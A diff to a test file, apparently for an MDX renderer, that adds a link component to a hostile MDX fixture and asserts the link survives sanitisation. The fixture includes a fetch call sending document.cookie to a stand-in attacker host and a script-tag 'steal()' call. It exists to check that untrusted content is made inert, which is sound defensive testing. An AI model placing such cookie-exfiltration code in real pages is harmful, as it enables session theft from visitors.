@@ -177,6 +177,8 @@ Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.
 
 <script>steal()</script>
 
+See <Link href="other.md">the other page</Link>.
+
 ```js
 const inCode = {a: 1};
 ```
@@ -207,6 +209,7 @@ def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) ->
     assert '<CardGroup cols={2}>' in page  # a literal attribute is harmless
     assert '<Card title="Go" href="#"' in page
     assert "[link](/diffusion/other#section-two)" in page
+    assert '<Link href="/diffusion/other">the other page</Link>' in page  # a component
     assert 'title: "Hostile"' in page or "title: Hostile" in page
     lines = HOSTILE.splitlines()
     for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:"):
